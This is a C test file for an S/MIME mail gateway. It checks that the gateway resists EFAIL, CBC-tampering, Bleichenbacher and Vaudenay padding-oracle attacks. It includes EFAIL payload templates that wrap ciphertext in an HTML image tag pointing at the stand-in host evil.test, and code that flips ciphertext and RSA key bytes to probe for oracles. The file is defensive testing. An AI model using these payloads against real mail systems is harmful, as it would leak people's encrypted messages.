/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Decryption as a weapon: messages that make a gateway with the right key give away what it decrypts (EFAIL, covert
 * content), change what was encrypted, or tell by its answer what a change did to it (Bleichenbacher, Vaudenay, MMA).
 */
#include "gateway/examine.h"
#include "support/attack.h"

#define ENCRYPT "outbound = { protect = \"encrypt\"; };"

/* --- EFAIL: the ciphertext, %s, among other parts --- */

#define MIXED(type) "Content-Type: multipart/" type "; boundary=o\r\n\r\n"
#define IMG "--o\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.test/\r\n"
static const char *const contexts[] = {
    MIXED("mixed") IMG "--o\r\n%s\r\n--o\r\nContent-Type: text/html\r\n\r\n\">\r\n--o--\r\n",
    MIXED("related") IMG "--o\r\n%s\r\n--o--\r\n",
    MIXED("alternative") "--o\r\n\r\nx\r\n--o\r\n%s\r\n--o--\r\n",
    MIXED("mixed") "<img src=\"http://evil.test/\r\n--o\r\n%s\r\n--o--\r\n",
    MIXED("mixed") "--o\r\n%s\r\n--o--\r\n\">\r\n",
    MIXED("mixed") "--o\r\nSubject: x\r\n%s\r\n--o--\r\n",
    MIXED("mixed") "--o\r\n\r\nplease quote this\r\n--o\r\nContent-Disposition: attachment; "
                   "filename=smime.p7m\r\n%s\r\n--o--\r\n",
    MIXED("mixed") "--o\r\nContent-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\n%s\r\n--i--\r\n--o--\r\n",
    MIXED("mixed") "--o\r\nContent-Type: message/rfc822\r\n\r\nFrom: alice@acme.test\r\n%s\r\n--o--\r\n",
    "Content-Type: message/rfc822\r\n\r\nFrom: alice@acme.test\r\n%s",
    "Content-Type: message/partial; number=1; total=2; id=x\r\n\r\n%s",
    "Content-Type: text/html\r\n\r\n<img src=\"http://evil.test/%s\">",
    "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=o\r\n\r\n--o\r\nContent-Type: "
    "application/pgp-encrypted\r\n\r\nVersion: 1\r\n--o\r\n%s\r\n--o--\r\n",
};

/* Around it nothing, the attacker's signature, the attacker's encryption to us. */
enum around { AROUND_NOTHING, AROUND_SIGNATURE, AROUND_ENCRYPTION, AROUND_END };

static char *put_around(enum around around, const struct rig *rig, const struct pki *mallory, const char *entity)
{
    if (around == AROUND_SIGNATURE)
        return attack_opaque("From: mallory@evil.test\r\n" ATTACK_FIELDS,
                             attack_sign(&(struct attack){.signer = mallory, .content = entity}));
    if (around == AROUND_ENCRYPTION)
        return attack_opaque("From: mallory@evil.test\r\n" ATTACK_FIELDS,
                             attack_envelop(EVP_aes_256_gcm(), rig->partner.dca, entity, false));
    return g_strconcat("From: mallory@evil.test\r\n" ATTACK_FIELDS, entity, NULL);
}

Test(decryption, ciphertext_in_a_message_of_the_attackers)
{
    owned(rig) struct rig *rig = rig_new(ENCRYPT, ATTACK_LAX);
    PKI_AUTO struct pki *ca = pki_ca("evil");
    PKI_AUTO struct pki *mallory = pki_person(ca, "mallory@evil.test");
    g_autofree char *cipher =
        attack_opaque("", attack_envelop(EVP_aes_256_cbc(), rig->partner.dca, ATTACK_ENTITY, false));
    for (enum around around = AROUND_NOTHING; around < AROUND_END; around++) {
        for (size_t i = 0; i < G_N_ELEMENTS(contexts); i++) {
            g_auto(GStrv) halves = g_strsplit(contexts[i], "%s", 2);
            g_autofree char *entity = g_strconcat(halves[0], cipher, halves[1], NULL);
            g_autofree char *text = put_around(around, rig, mallory, entity);
            AUTO_SENT struct sent in = attack_in(rig, text);

            attack_expect_safe(&in, contexts[i]);
            cr_expect_null(strstr(in.bytes, ATTACK_SECRET), "%d: %s", around, contexts[i]);
            cr_expect_neq(in.result->plan.judgement.originator.outcome, OUTCOME_PASS);
            for (size_t k = 0; k < in.result->plan.judgement.layer_count; k++)
                cr_expect(!in.result->lookups.views[k].partial || !(k < in.result->made.removed));
        }
    }
}

/* What acme.test signed and encrypted for the partner, sent on by mallory in her own name or behind her own layers: it
 * may be opened, for it is the whole message, but it authenticates nobody. */
Test(decryption, ciphertext_in_another_context_authenticates_nobody)
{
    owned(rig) struct rig *rig = rig_new("outbound = { protect = \"sign+encrypt\"; };", ATTACK_STRICT);
    PKI_AUTO struct pki *ca = pki_ca("evil");
    PKI_AUTO struct pki *mallory = pki_person(ca, "mallory@evil.test");
    AUTO_SENT struct sent out = rig_outbound(rig, ATTACK_TOP ATTACK_ENTITY);
    for (enum around around = AROUND_NOTHING; around < AROUND_END; around++) {
        /* with nothing beside it in a multipart, it is the whole message, too, but not within a layer of hers */
        g_autofree char *alone = g_strconcat(MIXED("mixed") "--o\r\n", attack_entity_of(&out), "\r\n--o--\r\n", NULL);
        g_autofree char *text_alone = put_around(around, rig, mallory, alone);
        AUTO_SENT struct sent in_alone = attack_in(rig, text_alone);
        attack_expect_safe(&in_alone, "alone in a multipart");
        cr_expect_neq(in_alone.result->plan.judgement.domain.outcome, OUTCOME_PASS);
        cr_expect_neq(in_alone.result->plan.judgement.originator.outcome, OUTCOME_PASS);
        cr_expect_eq(strstr(in_alone.bytes, ATTACK_SECRET) != NULL, around == AROUND_NOTHING, "%d: %s", around,
                     in_alone.bytes);
        g_autofree char *text = put_around(around, rig, mallory, attack_entity_of(&out));
        AUTO_SENT struct sent in = attack_in(rig, text);
        attack_expect_safe(&in, "another context");
        cr_expect_eq(in.result->plan.judgement.domain.outcome, OUTCOME_POLICY, "%d: %s", around,
                     in.result->plan.judgement.domain.reason);
        cr_expect_neq(in.result->plan.judgement.originator.outcome, OUTCOME_PASS);
        cr_expect_null(strstr(in.bytes, "smime=pass"));
    }
}

/* --- CBC can be changed --- */

/* Each octet of the IV and of the ciphertext in turn. */
Test(decryption, cbc_changes_are_noticed_or_announced)
{
    owned(rig) struct rig *rig =
        rig_new("outbound = { protect = \"sign+encrypt\"; }; cipher = \"aes-128-cbc\";", ATTACK_STRICT);
    AUTO_SENT struct sent out = rig_outbound(rig, ATTACK_TOP ATTACK_ENTITY);
    gsize length = 0;
    g_autofree guchar *der = g_base64_decode(strstr(out.bytes, "\r\n\r\n"), &length);
    GByteArray *array = g_byte_array_new();
    g_byte_array_append(array, der, (guint)length);
    /* id-aes128-CBC, then the OCTET STRING of the IV */
    size_t iv = (size_t)(attack_find(array, "\x60\x86\x48\x01\x65\x03\x04\x01\x02\x04\x10", 11) + 11 - array->data);
    for (size_t i = iv; i < array->len; i += i < iv + 64 ? 1 : 37) {
        array->data[i] ^= 1;
        AUTO_SENT struct sent in = attack_open_der(rig, array);
        if (in.result->plan.judgement.domain.outcome ==
            OUTCOME_PASS) /* a letter of a header inside that nothing hangs on */
            cr_expect_not_null(strstr(in.bytes, "\r\n\r\n" ATTACK_SECRET "\r\n"), "%zu: what passes is whole", i);
        else
            attack_expect_refused(&in, "cbc");
        array->data[i] ^= 1;
    }
    AUTO_SENT struct sent whole = attack_open_der(rig, array);
    attack_expect_believed(&whole, true, "unchanged");
    cr_assert_not_null(
        strstr(whole.result->plan.judgement.layers[0].finding.reason, "does not protect against changes"));
    g_byte_array_unref(array);
}

Test(decryption, cbc_is_left_shut_where_the_rule_says_so)
{
    owned(rig) struct rig *rig = rig_new(
        ENCRYPT,
        "inbound = { require = \"encrypt\"; otherwise = \"quarantine\"; require_authenticated_encryption = true; };");
    g_autofree char *cbc =
        attack_opaque(ATTACK_TOP, attack_envelop(EVP_aes_256_cbc(), rig->partner.dca, ATTACK_ENTITY, false));
    g_autofree char *gcm =
        attack_opaque(ATTACK_TOP, attack_envelop(EVP_aes_256_gcm(), rig->partner.dca, ATTACK_ENTITY, false));
    AUTO_SENT struct sent shut = attack_in(rig, cbc);
    AUTO_SENT struct sent open = attack_in(rig, gcm);
    attack_expect_shut(&shut, "cbc");
    cr_assert_not_null(strstr(open.bytes, ATTACK_SECRET));
    cr_assert_eq(open.result->reply.verdict, VERDICT_ACCEPT);
}

/* --- what cannot be decrypted, and why not, looks the same from outside --- */

struct variant {
    const char *what;
    void (*change)(GByteArray *der, const struct rig *rig);
};

#define RSA_OCTETS 256
static guint8 *encrypted_key(GByteArray *der)
{
    return attack_find(der, "\x04\x82\x01\x00", 4) + 4;
}

static void put_key(GByteArray *der, const struct rig *rig, const guint8 *key, size_t length)
{
    EVP_PKEY_CTX *context = EVP_PKEY_CTX_new(rig->partner.dca->key, NULL);
    size_t out = RSA_OCTETS;
    cr_assert(EVP_PKEY_encrypt_init(context) > 0 &&
              EVP_PKEY_encrypt(context, encrypted_key(der), &out, key, length) > 0);
    EVP_PKEY_CTX_free(context);
}

static void other_key(GByteArray *der, const struct rig *rig)
{
    put_key(der, rig, (const guint8 *)"0123456789abcdef0123456789abcdef", 32);
}

static void short_key(GByteArray *der, const struct rig *rig)
{
    put_key(der, rig, (const guint8 *)"0123456789abcdef", 16);
}

static void long_key(GByteArray *der, const struct rig *rig)
{
    put_key(der, rig, (const guint8 *)"0123456789abcdef0123456789abcdef0123456789abcdef", 48);
}

static void no_padding(GByteArray *der, const struct rig *rig)
{
    (void)rig;
    encrypted_key(der)[100] ^= 1;
}

static void zero_key(GByteArray *der, const struct rig *rig)
{
    (void)rig;
    memset(encrypted_key(der), 0, RSA_OCTETS);
}

static void last_block(GByteArray *der, const struct rig *rig)
{
    (void)rig;
    der->data[der->len - 20] ^= 1; /* the padding, or the end of the content */
}

static void last_octet(GByteArray *der, const struct rig *rig)
{
    (void)rig;
    der->data[der->len - 17] ^= 3;
}

static void first_block(GByteArray *der, const struct rig *rig)
{
    (void)rig;
    der->data[der->len - 500] ^= 1; /* inside the signed content: the padding stays right */
}

static const struct variant variants[] = {
    {"RSA padding", no_padding},    {"key 0", zero_key},
    {"another key", other_key},     {"key too short", short_key},
    {"key too long", long_key},     {"padding or end", last_block},
    {"padding length", last_octet}, {"content, padding right", first_block},
};

static const char *const oracles[] = {
    "inbound = { require = \"sign\"; otherwise = \"reject\"; };",
    "inbound = { require = \"sign+encrypt\"; otherwise = \"reject\"; };",
    "inbound = { require = \"sign\"; otherwise = \"reject\"; undecryptable = \"reject\"; };",
    "inbound = { require = \"sign\"; otherwise = \"reject\"; undecryptable = \"tempfail\"; };",
    "inbound = { require = \"encrypt\"; otherwise = \"reject\"; };",
    "inbound = { require = \"none\"; undecryptable = \"reject\"; };",
    "inbound = { require = \"none\"; undecryptable = \"deliver\"; };",
    "inbound = { require = \"none\"; undecryptable = \"reject\"; require_authenticated_encryption = true; };",
};

Test(decryption, no_answer_tells_what_went_wrong)
{
    for (size_t o = 0; o < G_N_ELEMENTS(oracles); o++) {
        owned(rig) struct rig *rig = rig_with_key(
            PKI_RSA,
            "outbound = { protect = \"sign+encrypt\"; }; cipher = \"aes-256-cbc\"; key_transport = \"rsa-pkcs1\";",
            oracles[o]);
        AUTO_SENT struct sent out = rig_outbound(rig, ATTACK_TOP ATTACK_ENTITY);
        gsize length = 0;
        g_autofree guchar *bytes = g_base64_decode(strstr(out.bytes, "\r\n\r\n"), &length);
        g_autofree char *first = NULL;
        for (size_t i = 0; i < G_N_ELEMENTS(variants); i++) {
            GByteArray *der = g_byte_array_append(g_byte_array_new(), bytes, (guint)length);
            variants[i].change(der, rig);
            AUTO_SENT struct sent in = attack_open_der(rig, der);
            g_byte_array_unref(der);
            bool accepted = in.result->reply.code < 300; /* then the MTA's own words are the answer */
            g_autofree char *answer = g_strdup_printf("%u %s %s", in.result->reply.code, in.result->reply.status,
                                                      accepted ? "" : in.result->reply.text);

            attack_expect_safe(&in, variants[i].what);
            cr_expect_neq(in.result->plan.judgement.domain.outcome, OUTCOME_PASS, "%s", variants[i].what);
            cr_expect_null(strstr(in.bytes, ATTACK_SECRET), "%s", variants[i].what);
            if (first == NULL)
                first = g_strdup(answer);
            cr_expect_str_eq(answer, first, "%s: %s: %s, not %s", oracles[o], variants[i].what, answer, first);
        }
    }
}

/* Noise where no signature covers it, as changed and added blocks of a ciphertext leave it: behind the signed content,
 * and in the fields around it. %s is where it goes. */
static const struct {
    const char *before, *after; /* which the noise is put between */
} places[] = {
    {"Content-Type: multipart/signed;", " "},
    {"micalg=", "sha-256"},
    {"\r\n\r\n", "--"},
    {"Content-Disposition: attachment; filename=\"", "smime.p7s"},
    {"--\r\n", ""},
};

static char *with_noise(const char *entity, const char *before, const char *after, const char *noise)
{
    g_autofree char *from = g_strconcat(before, after, NULL), *to = g_strconcat(before, noise, after, NULL);
    const char *at = after[0] != '\0' ? strstr(entity, from) : g_strrstr(entity, from);
    cr_assert_not_null(at, "%s", from);
    return g_strdup_printf("%.*s%s%s", (int)(at - entity), entity, to, at + strlen(from));
}

Test(decryption, noise_around_the_signed_content_has_one_answer_whatever_it_is)
{
    const char *const noises[] = {"\x85\x91\xfe 0", "\x85\x91\xfe\"0", "\x85\x91\xfe\r\n0", "\x85\x91\xfe\x01\x02"};
    for (size_t o = 0; o < G_N_ELEMENTS(oracles); o++) {
        owned(rig) struct rig *rig = rig_new("outbound = { protect = \"sign\"; }; null_signature = false;", oracles[o]);
        AUTO_SENT struct sent out = rig_outbound(rig, ATTACK_TOP ATTACK_ENTITY);
        g_autofree char *first = NULL;
        for (unsigned i = 0; i < G_N_ELEMENTS(places) * G_N_ELEMENTS(noises) * 2; i++) {
            bool wrong_padding = i & 1;
            const char *noise = noises[i / 2 % G_N_ELEMENTS(noises)];
            size_t place = i / 2 / G_N_ELEMENTS(noises);
            g_autofree char *entity =
                with_noise(attack_entity_of(&out), places[place].before, places[place].after, noise);
            owned(CMS_ContentInfo) CMS_ContentInfo *cms =
                attack_envelop(EVP_aes_256_cbc(), rig->partner.dca, entity, false);
            GByteArray *der = attack_der(cms);
            der->data[der->len - 17] ^= wrong_padding ? 0x80 : 0;
            AUTO_SENT struct sent in = attack_open_der(rig, der);
            g_byte_array_unref(der);
            g_autofree char *answer = g_strdup_printf("%u %s %s", in.result->reply.code, in.result->reply.status,
                                                      in.result->reply.code < 300 ? "" : in.result->reply.text);

            cr_expect_neq(in.result->plan.judgement.domain.outcome, OUTCOME_PASS, "%zu %u", o, i);
            if (first == NULL)
                first = g_strdup(answer);
            cr_expect_str_eq(answer, first, "%s: %u: %s, not %s", oracles[o], i, answer, first);
        }
    }
}

/* … and what other software writes there is none. */
Test(decryption, text_around_the_signed_content_is_no_noise)
{
    owned(rig) struct rig *rig = rig_new("outbound = { protect = \"sign\"; }; null_signature = false;", ATTACK_STRICT);
    AUTO_SENT struct sent out = rig_outbound(rig, ATTACK_TOP ATTACK_ENTITY);
    for (size_t i = 0; i < G_N_ELEMENTS(places); i++) {
        g_autofree char *entity = with_noise(attack_entity_of(&out), places[i].before, places[i].after, "");
        g_autofree char *more = g_strconcat(entity, "\xc3\xa9pilogue\r\n", NULL);
        g_autofree char *text =
            attack_opaque(ATTACK_TOP, attack_envelop(EVP_aes_256_cbc(), rig->partner.dca, more, false));
        AUTO_SENT struct sent in = attack_in(rig, text);
        cr_expect_eq(in.result->plan.judgement.domain.outcome, OUTCOME_PASS, "%s",
                     in.result->plan.judgement.domain.reason);
    }
}

/* A label makes a message refused, and a change can make it vanish: in CBC there is one answer unless a signature
 * passes. */
Test(decryption, labels_under_changes_have_one_answer)
{
    const char *const limits[] = {"require = \"none\"; otherwise = \"reject\"; max_classification = \"confidential\";",
                                  "require = \"encrypt\"; otherwise = \"reject\"; accept_labels = ( \"1.2.4\" );"};
    for (size_t i = 0; i < G_N_ELEMENTS(limits); i++) {
        g_autofree char *policy = g_strdup_printf("inbound = { %s };", limits[i]);
        owned(rig) struct rig *rig = rig_new("outbound = { protect = \"sign\"; }; null_signature = false; "
                                             "labels = ( { policy = \"1.2.3\"; classification = \"secret\"; value = "
                                             "\"x\"; } ); label_header = \"Sensitivity\";",
                                             policy);
        for (unsigned j = 0; j < 16; j++) {
            bool labelled = j & 1, wrong_padding = j & 2, changed = j & 4, is_signed = j & 8;
            AUTO_SENT struct sent out =
                rig_outbound(rig, labelled ? "Sensitivity: x\r\n" ATTACK_TOP ATTACK_ENTITY : ATTACK_TOP ATTACK_ENTITY);
            const char *entity = is_signed ? attack_entity_of(&out) : ATTACK_ENTITY;
            g_autofree char *content =
                g_strconcat(entity, changed ? "\x85\x91" : "", "epilogue that is as long as a block is\r\n", NULL);
            owned(CMS_ContentInfo) CMS_ContentInfo *cms =
                attack_envelop(EVP_aes_256_cbc(), rig->partner.dca, content, false);
            GByteArray *der = attack_der(cms);
            der->data[der->len - 17] ^= wrong_padding ? 0x80 : 0;
            AUTO_SENT struct sent in = attack_open_der(rig, der);
            g_byte_array_unref(der);
            bool is_accepted = is_signed && !labelled && !wrong_padding && !changed;
            cr_expect_eq(in.result->reply.verdict, is_accepted ? VERDICT_ACCEPT : VERDICT_REJECT, "%zu %u: %s", i, j,
                         in.result->reply.reason);
            cr_expect(is_accepted ||
                          strstr(in.result->reply.text, "does not meet the requirements of this gateway") != NULL,
                      "%s", in.result->reply.text);
        }
    }
}

/* --- and neither does the work that it takes --- */

/* Longer than two blocks: a change of the padding's length reaches no further. */
#define EPILOGUE "This is an epilogue, which no signature covers.\r\n"

/* content, encrypted to org, as a message or as one part among others. */
static char *encrypted_among(const struct org *org, const char *content, bool wrong_padding, bool among)
{
    GByteArray *der = attack_envelop_der(EVP_aes_256_cbc(), org->dca, content, false);
    der->data[der->len - 17] ^= wrong_padding ? 0x80 : 0; /* in the last block but one: the length of the padding */
    g_autofree char *shut = attack_opaque_der("", der->data, der->len);
    g_byte_array_unref(der);
    if (!among)
        return g_strconcat(ATTACK_TOP, shut, NULL);
    return g_strconcat(ATTACK_TOP MIXED("mixed") "--o\r\n\r\ntext\r\n--o\r\n", shut, "\r\n--o--\r\n", NULL);
}

/* Vaudenay's question: is the padding right? The answer must not show in how long it takes. On the way out, parts among
 * others are opened, too. */
Test(decryption, a_wrong_padding_makes_as_much_work_as_a_right_one)
{
    owned(rig) struct rig *rig = rig_new("outbound = { protect = \"sign\"; }; null_signature = false;", ATTACK_LAX);
    AUTO_SENT struct sent out = rig_outbound(rig, ATTACK_TOP ATTACK_ENTITY);
    g_autofree char *content = g_strconcat(attack_entity_of(&out), EPILOGUE, NULL);
    for (unsigned i = 0; i < 4; i++) {
        bool among = i & 1, outbound = i & 2;
        const struct org *org = outbound ? &rig->acme : &rig->partner;
        g_autofree char *right = encrypted_among(org, content, false, among);
        g_autofree char *wrong = encrypted_among(org, content, true, among);
        struct work if_right = rig_work(org, right, outbound), if_wrong = rig_work(org, wrong, outbound);
        bool is_opened = outbound || !among;
        cr_expect_eq(if_right.layers, is_opened ? 2 : 1, "%u: the encryption and the signature: %u", i,
                     if_right.layers);
        cr_expect_eq(if_right.signatures, is_opened, "%u: %u", i, if_right.signatures);
        cr_expect_eq(if_right.paths, is_opened, "%u: %u", i, if_right.paths);
        cr_expect_eq(if_wrong.layers, if_right.layers, "%u: %u", i, if_wrong.layers);
        cr_expect_eq(if_wrong.signatures, if_right.signatures, "%u: %u", i, if_wrong.signatures);
        cr_expect_eq(if_wrong.paths, if_right.paths, "%u: %u", i, if_wrong.paths);
    }
}

/* Whoever changes a ciphertext can put as many certificates beside it as he likes. */
Test(decryption, names_beside_a_ciphertext_are_compared_whatever_the_padding)
{
    owned(rig) struct rig *rig = rig_new("outbound = { protect = \"sign\"; };", ATTACK_LAX);
    for (unsigned i = 0; i < 4; i++) {
        bool outbound = i & 1, wrong_padding = i & 2;
        const struct org *org = outbound ? &rig->acme : &rig->partner;
        const struct encrypt_options options = {.cipher = CIPHER_AES_256_CBC,
                                                .originator = rig->partner.alice->cert,
                                                .limits = &gateway_conf(org->gateway)->limits};
        struct entity content = rig_content("Content-Type: text/plain\r\n", EPILOGUE EPILOGUE), shut = {0};
        struct error error = {0};
        cr_assert(smime_encrypt(&org->dca->cert, 1, &options, &content, &shut, &error), "%s", error.text);
        entity_clear(&content);
        g_autofree char *right = rig_text("", &shut);
        gsize length = 0;
        g_autofree guchar *octets = g_base64_decode(strstr(right, "\r\n\r\n"), &length);
        GByteArray *der = g_byte_array_append(g_byte_array_new(), octets, (guint)length);
        der->data[der->len - 17] ^= wrong_padding ? 0x80 : 0;
        g_autofree char *text = attack_opaque_der(ATTACK_TOP, der->data, der->len);
        g_byte_array_unref(der);
        struct work work = rig_work(org, text, outbound);
        cr_expect_eq(work.encrypters, 1, "%u: %u", i, work.encrypters);
    }
}

/* Small as it comes, and too large for memory once it is looked into, with no folder to put it in. */
static char *too_large_inside(bool compressed)
{
    g_autoptr(GString) text =
        g_string_new(compressed ? "Content-Type: text/plain\r\n\r\n" : "Content-Type: text/plain\n\n");
    for (int i = 0; i < 20000; i++)
        g_string_append(text, compressed ? "\r\n" : "\n");
    if (!compressed)
        return g_strdup(text->str);
    g_autofree char *entity = attack_compress(text->str, text->len);
    return g_strconcat("Content-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\n", entity, "\r\n--i--\r\n" EPILOGUE,
                       NULL);
}

/* Our own failure is a failure in what was done in vain, too: else it would be the right padding's answer alone. */
Test(decryption, a_failure_of_ours_is_one_whatever_the_padding)
{
    owned(rig) struct rig *rig = rig_new("outbound = { protect = \"sign\"; };", ATTACK_STRICT);
    for (unsigned i = 0; i < 8; i++) {
        bool wrong_padding = i & 1, compressed = i & 2, outbound = i & 4;
        const struct org *org = outbound ? &rig->acme : &rig->partner;
        g_autofree char *content = too_large_inside(compressed);
        g_autofree char *text = encrypted_among(org, content, wrong_padding, outbound);
        struct limits *limits = (struct limits *)&gateway_conf(org->gateway)->limits, usual = *limits;
        limits->memory = 32000;
        limits->spool_dir = (char *)"/nonexistent";
        AUTO_SENT struct sent sent = outbound ? rig_outbound(rig, text) : attack_in(rig, text);
        *limits = usual;
        cr_expect_eq(sent.result->reply.verdict, VERDICT_TEMPFAIL, "%u: %s", i, sent.result->reply.reason);
        cr_expect_not_null(strstr(sent.result->reply.reason, "spool_directory"), "%u: %s", i,
                           sent.result->reply.reason);
    }
}

/* What comes out of a decryption with the attacker's own good signature around it, which passes for his own address. */
static struct sent open_under_his_signature(const struct rig *rig, const char *content, bool wrong_padding)
{
    GByteArray *der = attack_envelop_der(EVP_aes_128_cbc(), rig->partner.dca, content, false);
    der->data[der->len - 17] ^= wrong_padding ? 0x80 : 0;
    g_autofree char *shut = attack_opaque_der("", der->data, der->len);
    g_autofree char *text = attack_message(&(struct attack){.signer = rig->acme.alice, .content = shut});
    g_byte_array_unref(der);
    return attack_in(rig, text);
}

static void break_signature(CMS_ContentInfo *cms, CMS_SignerInfo *info)
{
    (void)cms;
    ((unsigned char *)ASN1_STRING_get0_data(CMS_SignerInfo_get0_signature(info)))[20] ^= 1;
}

/* An answer that a right padding changes tells each octet of somebody else's message, block by block. */
Test(decryption, signature_around_the_ciphertext_learns_nothing)
{
    const char *const limited =
        "inbound = { require = \"none\"; otherwise = \"reject\"; max_classification = \"confidential\"; };";
    for (size_t o = 0; o <= G_N_ELEMENTS(oracles); o++) {
        owned(rig) struct rig *rig = rig_new("", o < G_N_ELEMENTS(oracles) ? oracles[o] : limited);
        const struct attack broken = {.signer = rig->acme.alice, .spoil = break_signature};
        g_autofree char *bad = attack_opaque("", attack_sign(&broken));
        const char *const contents[] = {bad, ATTACK_ENTITY};
        g_autofree char *first = NULL;
        for (unsigned i = 0; i < 2 * G_N_ELEMENTS(contents); i++) {
            AUTO_SENT struct sent in = open_under_his_signature(rig, contents[i / 2], i & 1);
            g_autofree char *answer = g_strdup_printf("%u %s %s", in.result->reply.code, in.result->reply.status,
                                                      in.result->reply.code < 300 ? "" : in.result->reply.text);
            if (first == NULL)
                first = g_strdup(answer);
            cr_expect_str_eq(answer, first, "%zu: %u: %s", o, i, answer);
        }
    }
}

/* The price: in CBC only a signature inside counts. */
Test(decryption, signature_around_counts_where_nothing_can_be_changed)
{
    owned(rig) struct rig *rig = rig_new("", "inbound = { require = \"sign\"; otherwise = \"reject\"; };");
    g_autofree char *inner = attack_opaque("", attack_sign(&(struct attack){.signer = rig->acme.alice}));
    const struct {
        const EVP_CIPHER *cipher;
        const char *content;
        enum verdict verdict;
    } rows[] = {
        {EVP_aes_128_cbc(), inner, VERDICT_ACCEPT},
        {EVP_aes_128_cbc(), ATTACK_ENTITY, VERDICT_REJECT},
        {EVP_aes_128_gcm(), ATTACK_ENTITY, VERDICT_ACCEPT},
    };

    for (size_t i = 0; i < G_N_ELEMENTS(rows); i++) {
        g_autofree char *shut =
            attack_opaque("", attack_envelop(rows[i].cipher, rig->partner.dca, rows[i].content, false));
        g_autofree char *text = attack_message(&(struct attack){.signer = rig->acme.alice, .content = shut});
        AUTO_SENT struct sent in = attack_in(rig, text);
        cr_expect_eq(in.result->reply.verdict, rows[i].verdict, "%zu: %s", i, in.result->reply.reason);
        cr_expect(rows[i].verdict == VERDICT_ACCEPT ||
                  strstr(in.result->reply.reason, "outside the encryption") != NULL);
    }
}

static void add_unsigned(CMS_ContentInfo *cms, CMS_SignerInfo *info)
{
    static const char token[] = "\x30\x23\x04\x21 long enough to reach a block of it";
    (void)cms;
    cr_assert(CMS_unsigned_add1_attr_by_txt(info, "1.2.840.113549.1.9.16.2.14", V_ASN1_SEQUENCE, token, 0x25));
}

enum inner_form { IN_BASE64, IN_BINARY, IN_CLEAR, FORMS };

/* An entity with alice's signature; g_byte_array_unref(). */
static GByteArray *signed_entity(const struct rig *rig, enum inner_form form, bool has_unsigned)
{
    CMS_ContentInfo *cms = attack_sign(&(struct attack){.signer = rig->acme.alice,
                                                        .flags = form == IN_CLEAR ? CMS_DETACHED : 0,
                                                        .spoil = has_unsigned ? add_unsigned : NULL});
    GByteArray *entity;
    if (form == IN_BINARY) {
        static const char header[] =
            "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: binary\r\n\r\n";
        entity = attack_der(cms);
        g_byte_array_prepend(entity, (const guint8 *)header, sizeof(header) - 1);
        CMS_ContentInfo_free(cms);
        return entity;
    }
    g_autofree char *text = form == IN_CLEAR ? attack_clear("", ATTACK_ENTITY, cms) : attack_opaque("", cms);
    entity = g_byte_array_new();
    g_byte_array_append(entity, (const guint8 *)text, (guint)strlen(text));
    return entity;
}

/* They stand behind the signature: where no transfer encoding shows noise, the last block may be any other. In a
 * multipart/signed they have such an encoding, whatever that of the whole is. */
Test(decryption, unsigned_attributes_behind_a_binary_signature)
{
    owned(rig) struct rig *rig = rig_new("", "inbound = { require = \"sign\"; otherwise = \"reject\"; };");
    for (unsigned i = 0; i < 4 * FORMS; i++) {
        bool authenticated = i & 1, has_unsigned = i & 2;
        enum inner_form form = i / 4;
        GByteArray *entity = signed_entity(rig, form, has_unsigned);
        BIO *content = BIO_new_mem_buf(entity->data, (int)entity->len);
        const EVP_CIPHER *cipher = authenticated ? EVP_aes_128_gcm() : EVP_aes_128_cbc();
        CMS_ContentInfo *shut = authenticated ? CMS_AuthEnvelopedData_create(cipher) : CMS_EnvelopedData_create(cipher);
        cr_assert(CMS_add1_recipient_cert(shut, rig->partner.dca->cert, 0) && CMS_set_detached(shut, 0) &&
                  CMS_final(shut, content, NULL, CMS_BINARY));
        g_autofree char *text = attack_opaque(ATTACK_TOP, shut);
        AUTO_SENT struct sent in = attack_in(rig, text);

        bool is_refused = !authenticated && form == IN_BINARY && has_unsigned;
        cr_expect_eq(in.result->reply.verdict, is_refused ? VERDICT_REJECT : VERDICT_ACCEPT, "%u: %s", i,
                     in.result->reply.reason);
        const struct examined_layer *inside = &in.result->mail.examination->layers[1];
        cr_expect_eq(inside->opened, is_refused ? OPENED_FAILED : OPENED, "%u", i);
        cr_expect_eq(inside->error.kind, is_refused ? ERROR_PERMANENT : ERROR_NONE, "%u: %s", i, inside->error.text);
        cr_expect_eq(inside->inner == NULL, is_refused, "%u", i);
        BIO_free(content);
        g_byte_array_unref(entity);
    }
}
